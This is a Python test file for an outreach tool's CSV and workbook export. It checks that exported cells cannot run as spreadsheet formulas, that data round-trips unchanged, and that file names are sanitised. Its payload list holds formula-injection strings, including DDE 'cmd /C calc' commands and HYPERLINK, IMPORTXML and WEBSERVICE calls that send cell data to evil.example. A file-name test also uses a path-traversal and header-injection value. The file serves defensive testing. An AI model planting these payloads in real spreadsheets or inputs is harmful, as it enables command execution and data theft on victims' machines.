"""Tables that no spreadsheet runs, and that come back as they went, as CSV and as workbooks."""

from __future__ import annotations

import csv
import io
import tempfile
import zipfile
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from outreach.desk.exports import file_name
from outreach.imports.exporting import cell_text, csv_lines, guard_cell, unguard_cell
from outreach.imports.exporting_xlsx import LONGEST_CELL, write_workbook
from outreach.imports.parsing import read_rows
from outreach.imports.recognition import recognise
from outreach.imports.rows import ParsedRow

HEADER = ("Outreach contact", "Email", "Role", "Outlet", "Notes")
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "＠SUM(1)",
    "－1+1",
    "|calc",
    "%0A=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "'=1+1",
    "''=1+1",
    "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "=WEBSERVICE(\"https://evil.example\")",
)  # fmt: skip
_STARTS = st.sampled_from(
    ["", "=", "+", "-", "@", "\t", "\r", "'", "''", "＝", "|", "%", "\u202e", '"', ",", ";", "\n"]
)
_WORDS = st.text(
    st.characters(codec="utf-8", exclude_characters="\ufffe\uffff", exclude_categories=["Cs"]),
    max_size=40,
)
CELLS = st.builds(lambda start, rest: start + rest, _STARTS, _WORDS) | st.sampled_from(PAYLOADS)
TABLES = st.lists(st.tuples(*[CELLS] * 4), min_size=1, max_size=8)


def one_line(cell: str) -> str:
    """A cell as every import reads it: without NULs and on one line."""
    return " ".join(cell.replace("\x00", "").split())


def people(path: Path) -> list[tuple[str, ...]]:
    """What an import of a table of contacts reads of each row."""
    found: list[tuple[str, ...]] = []
    for row in read_rows(recognise(path)):
        assert isinstance(row, ParsedRow), row
        person = row.person
        assert person is not None
        found.append((person.name, person.email, person.role, person.outlet, person.notes))
    return found


def write_csv(path: Path, rows: Sequence[Sequence[object]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        file.writelines(csv_lines(HEADER, rows))


def write_xlsx(path: Path, rows: Sequence[Sequence[object]]) -> None:
    write_workbook(path, HEADER, rows, title="Contacts")


WRITERS = {"table.csv": write_csv, "table.xlsx": write_xlsx}


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=TABLES)
def test_what_was_imported_leaves_as_csv_and_comes_back_unchanged(
    rows: list[tuple[str, ...]],
) -> None:
    check_way_back("table.csv", rows)


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=TABLES)
def test_what_was_imported_leaves_as_a_workbook_and_comes_back_unchanged(
    rows: list[tuple[str, ...]],
) -> None:
    check_way_back("table.xlsx", rows)


def check_way_back(name: str, rows: list[tuple[str, ...]]) -> None:
    """Import a table, export what was read of it, and import that again."""
    write = WRITERS[name]
    given_rows = [
        (cells[0], f"mia{number}@garden.example", *cells[1:]) for number, cells in enumerate(rows)
    ]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / name
        write(path, given_rows)
        first = people(path)
        write(path, first)
        assert people(path) == first
    assert len(first) == len(rows)


@pytest.mark.parametrize("name", list(WRITERS))
def test_payloads_leave_as_text_and_come_back_as_they_were(tmp_path: Path, name: str) -> None:
    rows = [("Mia", f"mia{at}@garden.example", cell, "", "") for at, cell in enumerate(PAYLOADS)]
    WRITERS[name](tmp_path / name, rows)
    roles = [role for _, _, role, *_ in people(tmp_path / name)]
    assert roles == [one_line(payload) for payload in PAYLOADS]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_begins_as_a_formula_does(payload: str) -> None:
    text = "".join(csv_lines((payload,), [(payload,)]))
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
        assert row[0].startswith("'")
        assert unguard_cell(row[0]) == payload


def test_a_workbook_holds_texts_and_numbers_and_neither_formula_nor_link(tmp_path: Path) -> None:
    path = tmp_path / "table.xlsx"
    rows: list[tuple[object, ...]] = [(payload, 12, 2.5, True, None) for payload in PAYLOADS]
    rows.append(("https://evil.example/", "12", "mailto:x@evil.example", "internal:A1", ""))
    assert write_workbook(
        path, HEADER, rows, title="A title longer than Excel allows it to be"
    ) == len(rows)
    with zipfile.ZipFile(path) as packed:
        names = packed.namelist()
        sheet = packed.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert not any("externalLink" in name or "worksheets/_rels" in name for name in names)
    assert sheet.count("<v>12</v>") == len(PAYLOADS)


def test_a_cell_longer_than_excel_opens_is_cut_in_a_workbook_only(tmp_path: Path) -> None:
    long = "word " * 10_000
    write_workbook(tmp_path / "a.xlsx", ("Text",), [(long,)], title="Long")
    with zipfile.ZipFile(tmp_path / "a.xlsx") as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml").decode()
    assert long[:LONGEST_CELL].strip() in sheet
    assert long not in sheet
    assert long in "".join(csv_lines(("Text",), [(long,)]))


@given(CELLS)
def test_a_guarded_cell_is_unguarded_exactly(cell: str) -> None:
    assert unguard_cell(guard_cell(cell)) == cell


def test_values_are_written_as_people_and_imports_read_them() -> None:
    moment = datetime(2026, 11, 21, 9, 5, tzinfo=UTC)
    cells = [None, True, False, moment, moment.date(), 12, 2.5, "-5", "a\x00b"]
    assert [cell_text(cell) for cell in cells] == [
        "", "yes", "no", "2026-11-21 09:05", "2026-11-21", "12", "2.5", "-5", "ab",
    ]  # fmt: skip


def test_a_files_name_is_safe_whatever_a_view_is_called() -> None:
    assert file_name("prospects", "../../etc/passwd\r\nX: y", "2026-11-21", "csv") == (
        "prospects-etc-passwd-x-y-2026-11-21.csv"
    )
    assert file_name("prospects", "日本", "2026-11-21", "csv") == "prospects-2026-11-21.csv"
